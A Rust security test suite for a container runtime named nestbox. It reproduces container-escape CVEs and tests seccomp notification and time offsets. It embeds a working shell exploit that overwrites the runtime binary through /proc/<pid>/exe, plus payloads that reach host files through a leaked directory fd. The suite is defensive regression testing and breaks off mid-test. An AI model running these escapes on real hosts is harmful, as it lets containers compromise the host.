//! Reproductions of the container-escape bugs every runtime must carry fixes for, run against
//! `nestbox` and, where runc 1.1.5 is also expected to resist, against `runc`:
//!
//! - CVE-2019-5736: overwriting the runtime's binary through `/proc/<pid>/exe` during `exec`
//!   and during `run` (nestbox only), for the read-only bind mount and the memfd fallback.
//! - CVE-2024-21626: a process cwd, or the executable, reached through a leaked host dir fd
//!   (`/proc/self/fd/N`). runc 1.1.5 is vulnerable to this one, so these cases run against
//!   nestbox only.
//! - A rootfs whose `/dev/null` is a symlink out of the rootfs (and CVE-2025-31133's "mask
//!   with something that is not /dev/null").
//! - A mount destination that is a symlink out of the rootfs.
//! - CVE-2025-52565's shape: a `/dev/console` symlink in the rootfs (nestbox only).
//!
//! Plus two runtime features that sit next to these: seccomp user notification for `exec`,
//! and `linux.timeOffsets` (nestbox only: runc 1.1.5 has no time namespace support).
//!
//! Run after `cargo build --release -p nestbox-runtime`:
//! `cargo test --release -p nestbox-tests --test runtime_security -- --test-threads=2`

use std::fs::File;
use std::os::fd::AsRawFd;
use std::os::unix::fs::{symlink, MetadataExt};
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::Command;

use nestbox_tests::{recv_fd, unique, wait_until, Bundle, Runtime, TempDir};
use serde_json::{json, Value};

fn sha256(path: &Path) -> String {
    let out = Command::new("sha256sum")
        .arg(path)
        .output()
        .expect("sha256sum");
    assert!(out.status.success(), "sha256sum {}", path.display());
    String::from_utf8_lossy(&out.stdout)
        .split_whitespace()
        .next()
        .unwrap_or_default()
        .to_string()
}

// ---------------------------------------------------------------------------------------------
// CVE-2019-5736
// ---------------------------------------------------------------------------------------------

/// The container's init. The runtime's helper that becomes the exec'd process runs inside
/// the container (its pid namespace, its mount namespace) before it execs the command, and
/// looks up the user in the container's /etc/passwd: we make that a fifo, so the helper blocks
/// there while its `/proc/<pid>/exe` still is the runtime's binary. Then: open that exe, try to
/// write it while it runs, let the helper go on (feed the fifo) until it has exec'd the
/// command, and try to write the binary again through the still-open fd: the step that
/// overwrote the host's runc in 2019. Every outcome goes to /result.
const ATTACK: &str = r#"
mv /etc/passwd /etc/passwd.real
mkfifo /etc/passwd
: > /result
: > /armed
while :; do
    for d in /proc/[0-9]*; do
        e=$(readlink "$d/exe" 2>/dev/null) || continue
        case "$e" in ""|/bin/busybox) continue;; esac
        pid=${d#/proc/}
        break 2
    done
    usleep 10000
done
echo "found=$pid" >> /result
echo "exe=$e" >> /result
feed() { cat /etc/passwd.real > /etc/passwd; }
attack() {
    echo open=ok
    if { echo pwned >> /proc/$pid/exe; } 2>/dev/null; then
        echo running-write=ok
    else
        echo running-write=failed
    fi
    feed
    while e=$(readlink /proc/$pid/exe 2>/dev/null) && [ "$e" != /bin/busybox ]; do
        usleep 10000
    done
    echo exited
    # Like the 2019 exploit: retry while the binary is busy (the runtime's CLI may still run
    # it), a few seconds at most.
    i=0
    while [ $i -lt 200 ]; do
        if { echo pwned >> /proc/self/fd/3; } 2>/tmp/write.err; then echo write=ok; return; fi
        i=$((i + 1))
        usleep 20000
    done
    cat /tmp/write.err
    echo write=failed
}
attack 3< /proc/$pid/exe >> /result 2>&1 || { echo open=failed >> /result; feed; }
rm /etc/passwd
mv /etc/passwd.real /etc/passwd
echo done >> /result
sleep 1000
"#;

struct Attack {
    result: String,
    sha_before: String,
    sha_after: String,
    exec: (i32, String, String),
}

/// When the attacked runtime process runs in the container.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum During {
    /// `exec` into the attacking container: the runtime's helper joins its namespaces.
    Exec,
    /// `run` of a second container that joins the attacking container's pid namespace (as
    /// containers of a pod sharing one): its init is the runtime's binary until it execs,
    /// and the second container's rootfs is the attacker's (so its /etc/passwd is the fifo).
    Run,
}

/// Run the CVE-2019-5736 attack against a private copy of the runtime's binary (so a
/// successful attack harms nothing else) with `env` on the runtime's command lines.
fn overwrite_through_proc_exe(
    rt: Runtime,
    env: Vec<(&'static str, &'static str)>,
    during: During,
) -> Attack {
    let copy_dir = TempDir::new("sec-bin");
    // Declared after copy_dir: dropped (containers deleted) while the binary still exists.
    let mut rt = rt;
    let copy = copy_dir.path().join(rt.name);
    std::fs::copy(&rt.bin, &copy).expect("copy the runtime binary");
    rt.bin = copy.clone();
    rt.env = env;
    let sha_before = sha256(&copy);

    let mut b = Bundle::new();
    b.config["root"]["readonly"] = json!(false);
    // A privileged-style container: CAP_SYS_PTRACE lets it open /proc/<pid>/exe of a
    // process with more capabilities than its own (the runtime's helper, before it drops
    // them). The fix must hold for such containers too.
    let caps = json!([
        "CAP_AUDIT_WRITE",
        "CAP_KILL",
        "CAP_NET_BIND_SERVICE",
        "CAP_SYS_PTRACE",
        "CAP_DAC_OVERRIDE"
    ]);
    for set in ["bounding", "effective", "permitted", "ambient"] {
        b.config["process"]["capabilities"][set] = caps.clone();
    }
    b.set_args(&["sh", "/attack.sh"]);
    b.write();
    std::fs::write(b.rootfs().join("attack.sh"), ATTACK).expect("attack.sh");
    let id = rt.start(&b);
    assert!(
        wait_until(30, || b.rootfs().join("armed").exists()),
        "{}: the attack script did not start",
        rt.name
    );

    // Declared before `b`'s use ends: the second bundle only has a config.
    let runner = TempDir::new("sec-run");
    let exec = match during {
        During::Exec => rt.out(&["exec", &id, "sh", "-c", "echo exec-ran"]),
        During::Run => {
            let mut config = b.config.clone();
            config["root"]["path"] = json!(b.rootfs());
            config["process"]["args"] = json!(["sh", "-c", "echo exec-ran"]);
            let pid_ns = format!("/proc/{}/ns/pid", rt.pid(&id));
            config["linux"]["namespaces"] = json!([
                {"type": "pid", "path": pid_ns}, {"type": "network"}, {"type": "ipc"},
                {"type": "uts"}, {"type": "mount"}
            ]);
            std::fs::write(
                runner.path().join("config.json"),
                serde_json::to_vec_pretty(&config).expect("json"),
            )
            .expect("config.json");
            let bundle = runner.path().to_str().expect("utf-8 path");
            rt.out(&["run", "--bundle", bundle, &unique("sec-run")])
        }
    };
    let result_path = b.rootfs().join("result");
    let finished = wait_until(60, || {
        std::fs::read_to_string(&result_path).is_ok_and(|r| r.lines().any(|l| l == "done"))
    });
    let result = std::fs::read_to_string(&result_path).unwrap_or_default();
    assert!(
        finished,
        "{}: the attack did not finish; result so far: {result:?}; exec: {exec:?}",
        rt.name,
    );
    let sha_after = sha256(&copy);
    assert_eq!(rt.out(&["delete", "--force", &id]).0, 0, "{}", rt.name);
    Attack {
        result,
        sha_before,
        sha_after,
        exec,
    }
}

fn assert_attack_failed(name: &str, a: &Attack) {
    let lines: Vec<&str> = a.result.lines().collect();
    // The attack really ran: it found the runtime's helper and tried what it could.
    assert!(
        lines.iter().any(|l| l.starts_with("found=")),
        "{name}: {:?}",
        a.result
    );
    assert!(
        !lines.iter().any(|l| l.ends_with("write=ok")),
        "{name}: a write succeeded: {:?}",
        a.result
    );
    assert_eq!(a.sha_after, a.sha_before, "{name}: the host binary changed");
    // The exec itself went through once the fifo was fed.
    assert_eq!(
        (a.exec.0, a.exec.1.as_str()),
        (0, "exec-ran\n"),
        "{name}: {:?}",
        a.exec
    );
}

/// nestbox's helper is dumpable, so the container did open its exe; both writes were really
/// attempted and failed. `memfd`: the exe the container reached is the sealed in-memory copy
/// (the fallback), else the read-only bind mount (writes fail with EROFS once the binary no
/// longer runs; while it runs, ETXTBSY may come first).
fn assert_nestbox_attack_failed(a: &Attack, memfd: bool) {
    assert_attack_failed("nestbox", a);
    let lines: Vec<&str> = a.result.lines().collect();
    for want in ["open=ok", "running-write=failed", "exited", "write=failed"] {
        assert!(lines.contains(&want), "lacks {want}: {:?}", a.result);
    }
    let memfd_exe = lines.iter().any(|l| l.starts_with("exe=/memfd:"));
    assert_eq!(memfd_exe, memfd, "exe of the helper: {:?}", a.result);
    if !memfd {
        assert!(
            a.result.contains("Read-only file system"),
            "the last write did not fail on the read-only mount: {:?}",
            a.result
        );
    }
}

#[test]
fn cve_2019_5736_exec_cannot_overwrite_the_runtime_binary() {
    for rt in [Runtime::runc(), Runtime::nestbox()] {
        let name = rt.name;
        let a = overwrite_through_proc_exe(rt, Vec::new(), During::Exec);
        assert_attack_failed(name, &a);
        if name == "nestbox" {
            assert_nestbox_attack_failed(&a, false);
        }
    }
}

/// The same attack on the init of a container being `run` into the attacker's pid
/// namespace (nestbox only).
#[test]
fn cve_2019_5736_run_cannot_overwrite_the_runtime_binary() {
    let a = overwrite_through_proc_exe(Runtime::nestbox(), Vec::new(), During::Run);
    assert_nestbox_attack_failed(&a, false);
}

/// The fallback for kernels without open_tree/mount_setattr (forced by the test switch): a
/// sealed memfd copy resists both during `exec` and during `run`.
#[test]
fn cve_2019_5736_memfd_fallback_cannot_be_overwritten() {
    for during in [During::Exec, During::Run] {
        let env = vec![("_NESTBOX_SEALED_EXE_MODE", "memfd")];
        let a = overwrite_through_proc_exe(Runtime::nestbox(), env, during);
        assert_nestbox_attack_failed(&a, true);
    }
}

/// The same attack against nestbox with the sealed re-exec skipped (the marker it sets in
/// its own environment after re-executing): the write must then succeed and change the
/// binary, during `exec` and during `run`. This proves the reproductions above really
/// exercise the attack.
#[test]
fn cve_2019_5736_repro_overwrites_an_unsealed_runtime() {
    for during in [During::Exec, During::Run] {
        let env = vec![("_NESTBOX_SEALED_EXE", "1")];
        let a = overwrite_through_proc_exe(Runtime::nestbox(), env, during);
        let lines: Vec<&str> = a.result.lines().collect();
        assert!(lines.contains(&"write=ok"), "{during:?}: {:?}", a.result);
        assert_ne!(
            a.sha_after, a.sha_before,
            "{during:?}: the unsealed binary should have been overwritten: {:?}",
            a.result
        );
    }
}

// ---------------------------------------------------------------------------------------------
// CVE-2024-21626 (nestbox only: runc 1.1.5 is vulnerable)
// ---------------------------------------------------------------------------------------------

/// A host directory the caller leaks to the runtime as fd 7 (not close-on-exec).
struct LeakedDir {
    dir: TempDir,
    file: File,
}

impl LeakedDir {
    fn new() -> LeakedDir {
        let dir = TempDir::new("sec-leak");
        std::fs::write(dir.path().join("secret"), "host secret\n").expect("secret");
        let file = File::open(dir.path()).expect("open the host dir");
        LeakedDir { dir, file }
    }

    fn leak_into(&self, cmd: &mut Command) {
        let fd = self.file.as_raw_fd();
        // SAFETY: only dup2 (async-signal-safe) between fork and exec; dup2 clears CLOEXEC.
        unsafe {
            cmd.pre_exec(move || {
                if libc::dup2(fd, 7) < 0 {
                    return Err(std::io::Error::last_os_error());
                }
                Ok(())
            });
        }
    }

    /// The host dir still holds only `secret`, and nothing above it was written either.
    fn assert_untouched(&self) {
        let names: Vec<String> = std::fs::read_dir(self.dir.path())
            .expect("read the host dir")
            .filter_map(|e| Some(e.ok()?.file_name().to_string_lossy().into_owned()))
            .collect();
        assert_eq!(names, vec!["secret".to_string()], "host dir changed");
        let parent = self.dir.path().parent().expect("parent");
        assert!(
            !parent.join("escaped").exists(),
            "file written above the host dir"
        );
    }
}

const ESCAPE: &str = "pwd; cat secret; touch escaped ../escaped; echo escaped";

#[test]
fn cve_2024_21626_exec_cwd_through_a_leaked_fd_is_refused() {
    let rt = Runtime::nestbox();
    let mut b = Bundle::new();
    b.set_args(&["sleep", "100"]);
    b.write();
    let id = rt.start(&b);
    let init_pids = rt.pids(&id);
    let leak = LeakedDir::new();
    for cwd in ["/proc/self/fd/7", "/proc/self/fd/7/.."] {
        let mut cmd = rt.cmd(&["exec", "--cwd", cwd, &id, "sh", "-c", ESCAPE]);
        leak.leak_into(&mut cmd);
        let (code, out, err) = rt.out_cmd(cmd);
        assert_eq!(code, 1, "exec --cwd {cwd}: stdout {out:?} stderr {err:?}");
        assert!(!out.contains("escaped"), "{out}");
        assert!(
            err.contains("outside the container root") && err.contains("/proc/self/fd/7"),
            "unclear error for --cwd {cwd}: {err:?}"
        );
        leak.assert_untouched();
        // Nothing left behind: the container runs on with only its own process.
        assert_eq!(rt.pids(&id), init_pids, "exec --cwd {cwd} left a process");
        assert_eq!(
            rt.state(&id).map(|s| s["status"].clone()),
            Some(json!("running"))
        );
    }
    // The same fd without the cwd trick is simply not visible in the container.
    let mut cmd = rt.cmd(&["exec", &id, "sh", "-c", "ls /proc/self/fd | tr '\\n' ' '"]);
    leak.leak_into(&mut cmd);
    let (code, out, err) = rt.out_cmd(cmd);
    assert_eq!(code, 0, "{err}");
    assert_eq!(out.trim(), "0 1 2 3", "a leaked fd reached the container");
}

#[test]
fn cve_2024_21626_process_cwd_through_a_leaked_fd_is_refused() {
    let rt = Runtime::nestbox();
    let leak = LeakedDir::new();
    for cwd in ["/proc/self/fd/7", "/proc/self/fd/7/../.."] {
        let mut b = Bundle::new();
        b.set_args(&["sh", "-c", ESCAPE]);
        b.config["process"]["cwd"] = json!(cwd);
        b.write();
        let id = unique("cw");
        let mut cmd = rt.cmd(&["run", "--bundle", b.path().to_str().expect("utf-8"), &id]);
        leak.leak_into(&mut cmd);
        let (code, out, err) = rt.out_cmd(cmd);
        assert_eq!(code, 1, "cwd {cwd}: stdout {out:?} stderr {err:?}");
        assert!(!out.contains("escaped"), "{out}");
        assert!(
            err.contains("outside the container root") && err.contains("/proc/self/fd/7"),
            "unclear error for cwd {cwd}: {err:?}"
        );
        leak.assert_untouched();
        assert!(rt.list_ids().is_empty(), "a container was left behind");
        assert!(
            !rt.root.path().join(&id).exists(),
            "state dir of {id} left behind"
        );
        let found = Command::new("find")
            .args(["/sys/fs/cgroup", "-mindepth", "2", "-maxdepth", "7"])
            .args(["-type", "d", "-name", &id])
            .output()
            .expect("find");
        assert!(
            found.stdout.is_empty(),
            "cgroup left behind: {}",
            String::from_utf8_lossy(&found.stdout)
        );
    }
}

/// CVE-2024-21626 "attack 3": the process's executable named through the leaked fd, so a host
/// binary would run inside the container (where it could then be overwritten through
/// /proc/self/exe). The leaked dir is /tmp/<x>: `../../bin/busybox` from it is the host's.
#[test]
fn cve_2024_21626_executable_through_a_leaked_fd_is_refused() {
    assert!(
        Path::new("/bin/busybox").is_file(),
        "the case needs the host's /bin/busybox"
    );
    let exe = "/proc/self/fd/7/../../bin/busybox";
    let rt = Runtime::nestbox();
    let leak = LeakedDir::new();
    assert!(
        leak.dir.path().starts_with("/tmp"),
        "leaked dir {}",
        leak.dir.path().display()
    );
    let payload = "echo escaped; readlink /proc/self/exe";

    let mut b = Bundle::new();
    b.set_args(&[exe, "sh", "-c", payload]);
    b.write();
    let id = unique("x3");
    let mut cmd = rt.cmd(&["run", "--bundle", b.path().to_str().expect("utf-8"), &id]);
    leak.leak_into(&mut cmd);
    let (code, out, err) = rt.out_cmd(cmd);
    assert_eq!(code, 1, "run: stdout {out:?} stderr {err:?}");
    assert!(!out.contains("escaped"), "{out}");
    assert!(err.contains(exe), "run: unclear error {err:?}");
    assert!(rt.list_ids().is_empty(), "a container was left behind");

    let mut b = Bundle::new();
    b.set_args(&["sleep", "100"]);
    b.write();
    let id = rt.start(&b);
    let init_pids = rt.pids(&id);
    let mut cmd = rt.cmd(&["exec", &id, exe, "sh", "-c", payload]);
    leak.leak_into(&mut cmd);
    let (code, out, err) = rt.out_cmd(cmd);
    assert_eq!(code, 1, "exec: stdout {out:?} stderr {err:?}");
    assert!(!out.contains("escaped"), "{out}");
    assert!(err.contains(exe), "exec: unclear error {err:?}");
    assert_eq!(rt.pids(&id), init_pids, "exec left a process");
    leak.assert_untouched();
}

// ---------------------------------------------------------------------------------------------
// /dev/null symlinked out of the rootfs
// ---------------------------------------------------------------------------------------------

/// A host file that must never change: content, inode and type.
struct Victim {
    _dir: TempDir,
    path: PathBuf,
    ino: u64,
}

impl Victim {
    fn new() -> Victim {
        let dir = TempDir::new("sec-victim");
        let path = dir.path().join("victim");
        std::fs::write(&path, "precious host data\n").expect("victim");
        let ino = std::fs::symlink_metadata(&path).expect("stat").ino();
        Victim {
            _dir: dir,
            path,
            ino,
        }
    }

    fn assert_untouched(&self, who: &str) {
        let meta = std::fs::symlink_metadata(&self.path).expect("victim still exists");
        assert!(
            meta.file_type().is_file(),
            "{who}: victim is no longer a file"
        );
        assert_eq!(meta.ino(), self.ino, "{who}: victim replaced");
        assert_eq!(
            std::fs::read_to_string(&self.path).expect("read victim"),
            "precious host data\n",
            "{who}: victim changed"
        );
    }
}

/// A bundle without the /dev tmpfs (the rootfs's own /dev is used) whose /dev/null is `link`.
fn bundle_with_dev_null(link: &Path, args: &[&str]) -> Bundle {
    let mut b = Bundle::new();
    b.config["root"]["readonly"] = json!(false);
    let mounts: Vec<Value> = b.config["mounts"]
        .as_array()
        .expect("mounts")
        .iter()
        .filter(|m| m["destination"] != "/dev")
        .cloned()
        .collect();
    b.config["mounts"] = json!(mounts);
    b.set_args(args);
    b.write();
    let null = b.rootfs().join("dev/null");
    let _ = std::fs::remove_file(&null);
    symlink(link, &null).expect("dev/null symlink");
    b
}

const CHECK_NULL: &[&str] = &[
    "sh",
    "-c",
    "echo discarded > /dev/null && stat -L -c '%F %t:%T' /dev/null && stat -c %t:%T /proc/timer_list",
];

#[test]
fn dev_null_symlinked_to_a_host_file_never_touches_it() {
    let victim = Victim::new();
    let relative = PathBuf::from("../../../../../../../../..")
        .join(victim.path.strip_prefix("/").expect("absolute victim path"));
    let mut outcomes = Vec::new();
    for rt in [Runtime::runc(), Runtime::nestbox()] {
        for link in [victim.path.clone(), relative.clone()] {
            let b = bundle_with_dev_null(&link, CHECK_NULL);
            let (code, out, err) = rt.run(&b);
            victim.assert_untouched(rt.name);
            // Inside, /dev/null is the null device (runc creates it at the link's target
            // inside the rootfs; nestbox replaces the link), and /proc/timer_list is masked by it.
            assert_eq!(
                (code, out.as_str()),
                (0, "character special file 1:3\n1:3\n"),
                "{} with /dev/null -> {}: {err}",
                rt.name,
                link.display()
            );
            outcomes.push((code, out));
        }
    }
    assert!(outcomes.windows(2).all(|w| w[0] == w[1]), "{outcomes:?}");
}

/// nestbox only: runc 1.1.5 leaves the link and masks with whatever it points to.
#[test]
fn dev_null_symlinked_into_the_rootfs_does_not_clobber_the_target() {
    let rt = Runtime::nestbox();
    let b = bundle_with_dev_null(
        Path::new("/etc/hostname"),
        &[
            "sh",
            "-c",
            "stat -c '%F %t:%T' /dev/null; cat /etc/hostname; stat -c %t:%T /proc/timer_list",
        ],
    );
    let (code, out, err) = rt.run(&b);
    assert_eq!(code, 0, "{err}");
    assert_eq!(out, "character special file 1:3\nbusybox\n1:3\n");
    assert_eq!(
        std::fs::read_to_string(b.rootfs().join("etc/hostname")).expect("hostname"),
        "busybox\n"
    );
}

/// nestbox only (CVE-2025-31133; runc 1.1.5 would bind the regular file over the masked
/// paths): /dev bind mounted from a directory whose `null` is not the null device.
#[test]
fn masking_with_a_fake_dev_null_is_refused() {
    let rt = Runtime::nestbox();
    let mut b = Bundle::new();
    let dev = b.path().join("devdir");
    std::fs::create_dir(&dev).expect("devdir");
    std::fs::write(dev.join("null"), "not a device\n").expect("fake null");
    let mounts: Vec<Value> = b.config["mounts"]
        .as_array()
        .expect("mounts")
        .iter()
        .map(|m| match m["destination"] == "/dev" {
            true => json!({"destination": "/dev", "type": "bind", "source": "devdir",
                           "options": ["rbind"]}),
            false => m.clone(),
        })
        .filter(|m| m["destination"] == "/dev" || m["destination"] == "/proc")
        .collect();
    b.config["mounts"] = json!(mounts);
    b.set_args(&["cat", "/proc/timer_list"]);
    b.write();
    let (code, out, err) = rt.run(&b);
    assert_eq!(code, 1, "stdout {out:?}");
    assert!(err.contains("/dev/null is not the null device"), "{err:?}");
    assert!(rt.list_ids().is_empty());
    assert_eq!(
        std::fs::read_to_string(dev.join("null")).expect("fake null"),
        "not a device\n"
    );
}

// ---------------------------------------------------------------------------------------------
// Mount destinations symlinked out of the rootfs
// ---------------------------------------------------------------------------------------------

#[test]
fn mount_destination_symlinked_out_of_the_rootfs_stays_inside() {
    let host_dir = TempDir::new("sec-hostdir");
    let relative = PathBuf::from("../../../../../../../../..").join(
        host_dir
            .path()
            .strip_prefix("/")
            .expect("absolute host dir"),
    );
    let mut outcomes = Vec::new();
    for rt in [Runtime::runc(), Runtime::nestbox()] {
        let mut b = Bundle::new();
        let src = b.path().join("src");
        std::fs::create_dir(&src).expect("src");
        std::fs::write(src.join("marker"), "inside\n").expect("marker");
        let _ = std::fs::remove_dir_all(b.rootfs().join("mnt"));
        symlink(host_dir.path(), b.rootfs().join("mnt")).expect("mnt link");
        symlink(&relative, b.rootfs().join("mnt2")).expect("mnt2 link");
        let mounts = b.config["mounts"].as_array_mut().expect("mounts");
        mounts.push(
            json!({"destination": "/mnt/sub", "type": "bind", "source": "src",
                           "options": ["rbind", "ro"]}),
        );
        mounts.push(
            json!({"destination": "/mnt2/tmpfs", "type": "tmpfs", "source": "tmpfs",
                           "options": ["size=64k"]}),
        );
        b.set_args(&[
            "sh",
            "-c",
            "cat /mnt/sub/marker; grep -q \" $(readlink -f /mnt2)/tmpfs \" /proc/self/mountinfo && echo tmpfs-inside",
        ]);
        b.write();
        let (code, out, err) = rt.run(&b);
        // The host directory got no mount point created in it and no mount on it.
        let entries: Vec<_> = std::fs::read_dir(host_dir.path())
            .expect("read host dir")
            .collect();
        assert!(
            entries.is_empty(),
            "{}: host dir written: {entries:?}",
            rt.name
        );
        let mountinfo = std::fs::read_to_string("/proc/self/mountinfo").expect("mountinfo");
        assert!(
            !mountinfo.contains(&host_dir.path().display().to_string()),
            "{}: mount on the host dir",
            rt.name
        );
        // Inside, the mounts landed where the links resolve within the rootfs.
        assert_eq!(
            (code, out.as_str()),
            (0, "inside\ntmpfs-inside\n"),
            "{}: {err}",
            rt.name
        );
        assert!(b
            .rootfs()
            .join(host_dir.path().strip_prefix("/").unwrap())
            .join("sub")
            .is_dir());
        outcomes.push((code, out));
    }
    assert_eq!(outcomes[0], outcomes[1]);
}

// ---------------------------------------------------------------------------------------------
// seccomp user notification for `exec`
// ---------------------------------------------------------------------------------------------

/// struct seccomp_notif / seccomp_notif_resp (linux/seccomp.h).
#[repr(C)]
#[derive(Default)]
struct SeccompNotif {
    id: u64,
    pid: u32,
    flags: u32,
    nr: i32,
    arch: u32,
    ip: u64,
    args: [u64; 6],
}

#[repr(C)]
struct SeccompNotifResp {
    id: u64,
    val: i64,
    error: i32,
    flags: u32,
}

const SECCOMP_IOCTL_NOTIF_RECV: libc::c_ulong = 0xc050_2100;
const SECCOMP_IOCTL_NOTIF_SEND: libc::c_ulong = 0xc018_2101;

/// Answer every notification on `fd` with EACCES until no process uses the filter any more
/// (or 20 s passed); returns the syscall numbers seen.
fn answer_eacces(fd: &std::os::fd::OwnedFd) -> Vec<i32> {
    let mut seen = Vec::new();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    while std::time::Instant::now() < deadline {
        let mut pfd = libc::pollfd {
            fd: fd.as_raw_fd(),
            events: libc::POLLIN,
            revents: 0,
        };
        // SAFETY: one valid pollfd.
        let n = unsafe { libc::poll(&mut pfd, 1, 200) };
        if n <= 0 {
            continue;
        }
        if pfd.revents & libc::POLLIN == 0 {
            break; // POLLHUP: every task using the filter is gone
        }
        let mut notif = SeccompNotif::default();
        // SAFETY: the ioctl fills a seccomp_notif of the declared layout.
        if unsafe { libc::ioctl(fd.as_raw_fd(), SECCOMP_IOCTL_NOTIF_RECV, &mut notif) } != 0 {
            continue;
        }
        seen.push(notif.nr);
        let mut resp = SeccompNotifResp {
            id: notif.id,
            val: 0,
            error: -libc::EACCES,
            flags: 0,
        };
        // SAFETY: the ioctl reads a seccomp_notif_resp of the declared layout.
        unsafe { libc::ioctl(fd.as_raw_fd(), SECCOMP_IOCTL_NOTIF_SEND, &mut resp) };
    }
    seen
}

/// A seccomp profile with SCMP_ACT_NOTIFY applies to `exec`'d processes too: their notify fd
/// reaches the agent (with the exec'd process's pid) and the agent's answers take effect.
#[test]
fn seccomp_notify_applies_to_exec() {
    let rt = Runtime::nestbox();
    let sock = rt.root.path().join("agent.sock");
    let listener = std::os::unix::net::UnixListener::bind(&sock).expect("bind agent socket");
    let agent = std::thread::spawn(move || {
        // First the container's init, then the exec'd process.
        let (init_conn, _) = listener.accept().expect("accept init");
        let (_init_payload, init_fd) = recv_fd(&init_conn);
        let (exec_conn, _) = listener.accept().expect("accept exec");
        let (payload, fd) = recv_fd(&exec_conn);
        let seen = answer_eacces(&fd);
        drop(init_fd);
        (payload, seen)
    });
    let mut b = Bundle::new();
    b.config["root"]["readonly"] = json!(false);
    b.config["linux"]["seccomp"] = json!({
        "defaultAction": "SCMP_ACT_ALLOW",
        "architectures": ["SCMP_ARCH_X86_64"],
        "listenerPath": sock,
        "listenerMetadata": "meta-exec",
        "syscalls": [{"names": ["mkdir", "mkdirat"], "action": "SCMP_ACT_NOTIFY"}]
    });
    b.set_args(&["sleep", "100"]);
    b.write();
    let id = rt.start(&b);
    let pid_file = rt.root.path().join("exec.pid");
    let (code, out, err) = rt.out(&[
        "exec",
        "--pid-file",
        pid_file.to_str().expect("utf-8"),
        &id,
        "sh",
        "-c",
        "mkdir /tmp/notified 2>&1; echo $?",
    ]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(
        out, "mkdir: can't create directory '/tmp/notified': Permission denied\n1\n",
        "the agent's EACCES did not reach the exec'd process"
    );
    assert!(!b.rootfs().join("tmp/notified").exists());
    assert_eq!(rt.out(&["delete", "--force", &id]).0, 0);
    let (payload, seen) = agent.join().expect("agent");
    let payload: Value = serde_json::from_str(&payload).expect("payload JSON");
    assert_eq!(payload["fds"], json!(["seccompFd"]), "{payload}");
    assert_eq!(payload["metadata"], "meta-exec", "{payload}");
    assert_eq!(payload["state"]["id"], id, "{payload}");
    let exec_pid: i64 = std::fs::read_to_string(&pid_file)
        .expect("pid file")
        .parse()
        .expect("pid");
    assert_eq!(payload["pid"], exec_pid, "{payload}");
    assert!(
        seen.contains(&(libc::SYS_mkdir as i32)) || seen.contains(&(libc::SYS_mkdirat as i32)),
        "no mkdir notification seen: {seen:?}"
    );
}

// ---------------------------------------------------------------------------------------------
// linux.timeOffsets (nestbox only: runc 1.1.5 has no time namespace support)
// ---------------------------------------------------------------------------------------------

const YEARS_30: i64 = 30 * 365 * 86_400;

fn uptime_secs(text: &str) -> f64 {
    text.split_whitespace()
        .next()
        .and_then(|s| s.parse().ok())
        .unwrap_or_else(|| panic!("uptime {text:?}"))
}

#[test]
fn time_offsets_shift_boottime_for_init_and_exec() {
    let rt = Runtime::nestbox();
    let host = uptime_secs(&std::fs::read_to_string("/proc/uptime").expect("uptime"));
    assert!(host < YEARS_30 as f64, "host uptime {host}");
    let mut b = Bundle::new();
    b.config["linux"]["namespaces"]
        .as_array_mut()
        .expect("namespaces")
        .push(json!({"type": "time"}));
    b.config["linux"]["timeOffsets"] = json!({
        "boottime": {"secs": YEARS_30, "nanosecs": 0},
        "monotonic": {"secs": 1000}
    });
    b.set_args(&["sleep", "100"]);
    b.write();
    let id = rt.start(&b);
    let (code, out, err) = rt.out(&["exec", &id, "cat", "/proc/uptime"]);
    assert_eq!(code, 0, "{err}");
    let inside = uptime_secs(&out);
    assert!(
        inside >= YEARS_30 as f64 && inside < YEARS_30 as f64 + host + 3600.0,
        "exec'd process sees uptime {inside}"
    );
    assert_eq!(rt.out(&["delete", "--force", &id]).0, 0);

    // run: the container's own process sees it too.
    let mut b2 = Bundle::new();
    b2.config = b.config.clone();
    b2.set_args(&["cat", "/proc/uptime"]);
    b2.write();
    let (code, out, err) = rt.run(&b2);
    assert_eq!(code, 0, "{err}");
    assert!(uptime_secs(&out) >= YEARS_30 as f64, "{out}");
}

#[test]
fn time_offsets_without_a_time_namespace_or_with_a_bad_clock_are_refused() {
    let rt = Runtime::nestbox();
    let mut b = Bundle::new();
    b.set_args(&["true"]);
    b.config["linux"]["timeOffsets"] = json!({"boottime": {"secs": 5}});
    b.write();
    let (code, _, err) = rt.run(&b);
    assert_eq!(code, 1);
    assert!(
        err.contains("timeOffsets") && err.contains("time namespace"),
        "{err:?}"
    );
    b.config["linux"]["namespaces"]
        .as_array_mut()
        .expect("namespaces")
        .push(json!({"type": "time"}));
    b.config["linux"]["timeOffsets"] = json!({"realtime": {"secs": 5}});
    b.write();
    let (code, _, err) = rt.run(&b);
    assert_eq!(code, 1);
    assert!(
        err.contains("unknown clock") && err.contains("realtime"),
        "{err:?}"
    );
    assert!(rt.list_ids().is_empty());
    assert_eq!(
        std::fs::read_dir(rt.root.path())
            .expect("root")
            .filter_map(|e| e.ok())
            .filter(|e| e.path().is_dir())
            .count(),
        0,
        "state dir left behind"
    );
}

// ---------------------------------------------------------------------------------------------
// The console pty and the rootfs's /dev links (CVE-2025-52565; nestbox only)
// ---------------------------------------------------------------------------------------------

/// With the rootfs's own /dev, `/dev/console` is a symlink to a container file: the pty must
/// replace the link, not be bound over the file it points to, and the pty must be the one
/// the runtime allocated (taken from the master, not looked up by name).
#[test]
fn console_replaces_a_dev_console_symlink() {
    use std::io::Read;
    let rt = Runtime::nestbox();
    let sock = rt.root.path().join("console.sock");
    let listener = std::os::unix::net::UnixListener::bind(&sock).expect("bind console socket");
    let reader = std::thread::spawn(move || {
        let (conn, _) = listener.accept().expect("accept");
        let (_name, master) = recv_fd(&conn);
        let mut master = File::from(master);
        let mut out = Vec::new();
        let mut buf = [0u8; 4096];
        // EIO once the container's side of the pty is gone.
        while let Ok(n) = master.read(&mut buf) {
            if n == 0 {
                break;
            }
            out.extend_from_slice(&buf[..n]);
        }
        String::from_utf8_lossy(&out).replace('\r', "")
    });
    let mut b = bundle_with_dev_null(
        Path::new("/dev/null-unused"),
        &[
            "sh",
            "-c",
            "stat -c '%F %t' /dev/console; stat -c %F /etc/hostname; echo to-console > /dev/console",
        ],
    );
    // bundle_with_dev_null left the rootfs's own /dev in place; give /dev/null back.
    let _ = std::fs::remove_file(b.rootfs().join("dev/null"));
    let _ = std::fs::remove_file(b.rootfs().join("dev/console"));
